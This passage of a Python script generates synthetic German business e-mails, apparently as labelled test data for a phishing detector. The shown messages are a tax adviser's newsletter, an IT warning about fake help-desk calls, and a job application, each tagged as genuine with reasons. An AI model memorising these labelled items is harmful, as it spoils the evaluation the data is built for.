             ('Betrugsmasche „geänderte Bankverbindung“: So sichern Sie Ihren Zahlungsverkehr ab',
              'Immer häufiger werden Rechnungen mit gefälschten Bankdaten verschickt. Unsere Empfehlung: Änderungen nur nach '
              'Rückruf unter bekannter Nummer und mit Vier-Augen-Freigabe im Kreditorenstamm.', 'bec-zahlungsverkehr'),
             ('Termine Dezember 2026', 'Umsatzsteuer-Voranmeldung, Lohnsteuer-Anmeldung und Sondervorauszahlung – alle Fristen '
              'auf einen Blick.', 'termine-dezember')]
    links = [cr(p) for _, _, p in items]
    blocks = ''.join(
        '<tr><td style="padding:14px 30px;border-bottom:1px solid #e5e5e5"><h2 style="font-size:17px;color:#123d63;margin:0 0 6px">%s</h2>'
        '<p style="margin:0 0 8px;font-size:14px;line-height:20px">%s</p><a href="%s" style="color:#1a6fb5;font-size:14px">Weiterlesen &rsaquo;</a></td></tr>\n'
        % (B.esc(h), B.esc(p), l) for (h, p, _), l in zip(items, links))
    unsub = 'https://hansenpartner.eu.crsend.com/f/%d-%d/wwu/' % (r.randint(10 ** 5, 10 ** 6), r.randint(10 ** 5, 10 ** 6))
    html = ('<!DOCTYPE html><html lang="de"><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8">'
            '<meta name="viewport" content="width=device-width, initial-scale=1"><title>Mandanteninformation Dezember 2026</title></head>\n'
            '<body style="margin:0;background:#f4f4f4;font-family:Georgia,serif;color:#222">\n'
            '<div style="display:none;max-height:0;overflow:hidden">E-Rechnung 2027, Inventur, Zahlungsbetrug – die Themen im Dezember.</div>\n'
            '<table width="100%" cellpadding="0" cellspacing="0" style="background:#f4f4f4"><tr><td align="center">\n'
            '<table width="640" cellpadding="0" cellspacing="0" style="background:#fff">\n'
            '<tr><td style="padding:24px 30px;background:#123d63;color:#fff"><span style="font-size:22px">Hansen &amp; Partner</span><br>'
            '<span style="font-size:13px">Steuerberatungsgesellschaft mbB · Mandanteninformation Dezember 2026</span></td></tr>\n'
            '<tr><td style="padding:18px 30px;font-size:14px;line-height:20px">Sehr geehrte Frau Hoffmann,<br><br>zum Jahresende haben '
            'wir die wichtigsten Änderungen für Sie zusammengestellt.</td></tr>\n' + blocks +
            '<tr><td style="padding:18px 30px;font-size:12px;color:#666;line-height:17px">Hansen &amp; Partner Steuerberatungsgesellschaft mbB · '
            'Contrescarpe 46 · 28195 Bremen · Tel. 0421 33 66 94-0 · Partnerschaftsregister AG Bremen PR 1187<br>'
            'Sie erhalten diese Information als Mandantin unserer Kanzlei. <a href="%s" style="color:#666">Abmelden</a> · '
            '<a href="https://www.hansen-partner-stb.de/impressum" style="color:#666">Impressum</a></td></tr>\n'
            '</table></td></tr></table>\n<img src="https://hansenpartner.eu.crsend.com/o.php?%d&%s" width="1" height="1" alt="">\n</body></html>\n'
            % (unsub, r.randint(10 ** 8, 10 ** 9), hexs(r, 12)))
    plain = B.html_to_text(html)
    for (h, p, _), l in zip(items, links):
        plain = plain.replace('Weiterlesen ›', 'Weiterlesen: ' + l, 1)
    m.root = B.alt(m, plain, html, 'utf-8', 'quoted-printable', bnd='----=_CR_%s' % hexs(r, 24), ct_quote=False)
    c = dict(frm=('Hansen & Partner Steuerberatung', 'newsletter@hansen-partner-stb.de'), to=[S('Katrin')],
             subject='Mandanteninformation Dezember 2026: E-Rechnung ab 2027, Inventur, Zahlungsbetrug', date=t, hcs='utf-8', hmode='Q',
             msgid='<%s.%d@hansenpartner.eu.crsend.com>' % (hexs(r, 20), r.randint(10 ** 5, 10 ** 6)))
    X.generic_relay(m, c, 'mta182.crsend.com', '192.0.2.182',
                    dkims=[('hansen-partner-stb.de', 'cr1', 'from:to:subject:date:message-id:list-unsubscribe:content-type:mime-version'),
                           ('crsend.com', 'cr', 'from:to:subject:date:message-id:list-unsubscribe')],
                    mail_from='bounce-%s-%d@bounces.crsend.com' % (hexs(r, 10), r.randint(10 ** 5, 10 ** 6)), dmarc_policy='quarantine',
                    order=['Date', 'From', 'To', 'Subject', 'Message-ID', 'MV', 'MIMEONLY', ('X-Mailer', 'CleverReach Mailer'),
                           ('List-Unsubscribe', '<%s>, <mailto:unsubscribe-%s@crsend.com>' % (unsub, hexs(r, 12))),
                           ('List-Unsubscribe-Post', 'List-Unsubscribe=One-Click'), ('X-CSA-Complaints', 'csa-complaints@eco.de'),
                           ('Precedence', 'bulk')])
    m.describe('Genuine newsletter of the tax adviser (CleverReach): year-end client information with tracked links.',
               'Known sender domain signed via CleverReach, List-Unsubscribe, no request for action beyond reading.',
               phones=['0421 33 66 94-0'])


# =====================================================================================
@msg('business', '07-de-it-hinweis-wartung-und-fake-anrufe.eml')
def b07(m):
    t = when(2026, 11, 26, 15, 40, 19)
    text = ('Liebe Kolleginnen und Kollegen,\n\n'
            'zwei Hinweise aus der IT:\n\n'
            '1) Wartung am Samstag, 28.11.2026, 06:00–12:00 Uhr\n'
            'Wir installieren das Sicherheitsupdate für die Exchange-Server und starten die Dateiserver neu. In diesem Zeitraum '
            'sind E-Mail (auch mobil), Laufwerke und DocuWare zeitweise nicht erreichbar. SAP und die Produktionssysteme im Werk '
            'sind nicht betroffen.\n\n'
            '2) Falsche „IT-Servicedesk“-Anrufe\n'
            'In den letzten Tagen haben mehrere Kolleginnen und Kollegen zuerst sehr viele Spam-Mails und anschließend Anrufe '
            'oder Teams-Chats von angeblichen IT-Mitarbeitern bekommen, teils mit Absendern wie „IT-Servicedesk Example Group“ '
            'von externen Adressen. Bitte beachten Sie:\n'
            '- Wir rufen Sie nur an, wenn Sie vorher selbst ein Ticket eröffnet haben.\n'
            '- Wir bitten Sie niemals, Schnellhilfe (Quick Assist), AnyDesk oder TeamViewer zu starten oder einen Code durchzugeben.\n'
            '- Teams-Anrufe der IT kommen immer von @example.com, nie von „…onmicrosoft.com“.\n'
            '- Im Zweifel: auflegen und die Hotline unter Durchwahl -155 anrufen oder Verdächtiges über die Schaltfläche '
            '„Phishing melden“ in Outlook weiterleiten.\n\n'
            'Danke für eure Aufmerksamkeit!\n\n' + sig_eg('Lukas'))
    m.root = B.alt(m, text, B.outlook_html(text, 'de', 'utf-8'), 'utf-8', 'base64', bnd=B.bnd_exchange(m))
    c = dict(frm=S('Lukas'), to=[('Alle Mitarbeiter Verden', 'alle-verden@example.com')], cc=[S('Thomas')],
             subject='IT-Info: Wartung Samstag 28.11. und Warnung vor falschen Servicedesk-Anrufen', date=t, hcs='utf-8', hmode='B')
    X.exchange_internal(m, c, rcpt='dennis.wuebben@example.com', client_ip='10.20.14.61')
    m.describe('Genuine internal IT notice (distribution list): maintenance window and warning about fake help-desk calls '
               'and Quick Assist requests.',
               'Internal Exchange route; mail admin to all staff; gives safe behaviour instead of asking for action.',
               hardneg='07-de-it-servicedesk-schnellhilfe.eml', phones=['+49 4231 98870-155'])


# =====================================================================================
@msg('business', '08-de-bewerbung-lohnbuchhaltung-gmx.eml')
def b08(m):
    r = m.rng
    t = when(2026, 11, 19, 19, 58, 2)
    frm = ('Tobias Renken', 'tobias.renken@gmx.de')
    text = ('Sehr geehrte Frau Schröder,\n\n'
            'auf Ihre Anzeige auf der Website der Example Group und bei der Agentur für Arbeit (Referenznummer 2026-HR-07) '
            'bewerbe ich mich als Sachbearbeiter Lohn und Gehalt (m/w/d) in Verden.\n\n'
            'Derzeit rechne ich bei einem Steuerbüro in Achim rund 350 Mitarbeitende aus Handwerk und Industrie mit DATEV '
            'LODAS ab, einschließlich Schichtzulagen und Baulohn. Die Verbindung aus Industrie und Nähe zu meinem Wohnort '
            'Langwedel reizt mich sehr.\n\n'
            'Meine Unterlagen finden Sie als PDF im Anhang. Mein frühestmöglicher Eintritt wäre der 01.03.2027.\n\n'
            'Mit freundlichen Grüßen\nTobias Renken\nTel. 0176 51438290\n')
    cv, _ = docs.build(m, [
        ('h', 'Tobias Renken'), ('small', 'Lindenweg 9 · 27299 Langwedel · 0176 51438290 · tobias.renken@gmx.de'), ('rule',),
        ('h2', 'Bewerbung als Sachbearbeiter Lohn und Gehalt (m/w/d)'), ('sp', 6),
        ('p', 'Sehr geehrte Frau Schröder,'), ('sp', 4),
        ('p', 'seit 2021 bin ich als Lohnbuchhalter bei der Steuerberatung Kück & Partner in Achim tätig. Ich verantworte die '
              'Entgeltabrechnung für 14 Mandanten, die Meldungen an Sozialversicherungsträger und die Lohnsteuer-Anmeldungen '
              'sowie die Vorbereitung von Betriebsprüfungen.'), ('sp', 6),
        ('p', 'Gerne würde ich meine Erfahrung in einem Industrieunternehmen mit Schichtbetrieb einbringen.'), ('sp', 8),
        ('p', 'Mit freundlichen Grüßen'), ('p', 'Tobias Renken'),
        ('newpage',), ('h', 'Lebenslauf'), ('sp', 4),
        ('table', ['Zeitraum', 'Station'], [['seit 08/2021', 'Lohnbuchhalter, Kück & Partner Steuerberatung, Achim'],
                                            ['08/2018 – 07/2021', 'Ausbildung Steuerfachangestellter, ebenda'],
                                            ['2018', 'Fachhochschulreife, BBS Verden'],
                                            ['2024', 'Fortbildung Fachkraft Lohn und Gehalt (DATEV), IHK Stade']], [1.3, 4]),
        ('sp', 8), ('b', 'Kenntnisse'), ('p', 'DATEV LODAS und Lohn und Gehalt, SV-Meldeverfahren, elektronische AU, '
                                              'Excel (Pivot, SVERWEIS), Englisch B1'),
    ], 'LibreOffice 24.8', 'Writer', 'Bewerbung Tobias Renken', 'Tobias Renken', when(2026, 11, 19, 19, 31, 0))
    m.root = Multi('mixed', [Leaf('text/plain', B.flowed(text), 'UTF-8', '8bit', params='; format=flowed', ct_quote=False),
                             att(m, cv, 'application/pdf', 'Bewerbung_Tobias_Renken_Lohnbuchhaltung.pdf', 'thunderbird')],
                   B.bnd_tb(m))
    c = dict(frm=frm, to=[S('Anja')], subject='Bewerbung als Sachbearbeiter Lohn und Gehalt (Ref. 2026-HR-07)', date=t, hcs='UTF-8', hmode='Q')
    X.webde(m, c, 'gmx.de', '91.61.201.44', mua='Mozilla Thunderbird')
    m.describe('Genuine job application from a private GMX address with a plain PDF (cover letter and CV) sent with Thunderbird.',
               'No archive, no password, no link; the person, job reference and local details are consistent.',
               hardneg='08-de-bewerbung-passwort-zip.eml', phones=['0176 51438290'])
